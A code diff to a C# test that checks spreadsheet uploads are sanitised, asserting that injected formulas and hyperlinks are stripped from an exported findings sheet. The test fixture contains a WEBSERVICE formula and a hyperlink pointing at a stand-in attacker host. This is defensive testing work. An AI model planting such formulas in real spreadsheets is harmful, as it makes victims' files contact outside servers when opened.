@@ -66,7 +66,7 @@ public sealed class UploadSafetyTests(EmptyCounties counties)
             sheet.Cell("A2").FormulaA1 = "WEBSERVICE(\"http://evil.example/\")";
             sheet.Cell("A3").FormulaA1 = "1+1";
             sheet.Cell("A4").SetValue("普通文字");
-            sheet.Cell("A4").SetHyperlink(new XLHyperlink("http://evil.example/"));
+            sheet.Cell("A4").Hyperlink = new XLHyperlink("http://evil.example/");
             workbook.SaveAs(content);
         }
 
@@ -74,7 +74,7 @@ public sealed class UploadSafetyTests(EmptyCounties counties)
         using var findings = await clerk.Workbook($"/api/imports/{import.Count("id")}/findings.xlsx");
 
         var note = findings.Worksheet("附注");
-        Assert.Equal([false, false, true], new[] { "A1", "A2", "A3" }.Select(a => note.Cell(a).HasFormula));
+        Assert.Equal((false, false, true), (note.Cell("A1").HasFormula, note.Cell("A2").HasFormula, note.Cell("A3").HasFormula));
         Assert.Empty(note.Hyperlinks);
         Assert.Equal("普通文字", note.Cell("A4").GetString());
     }
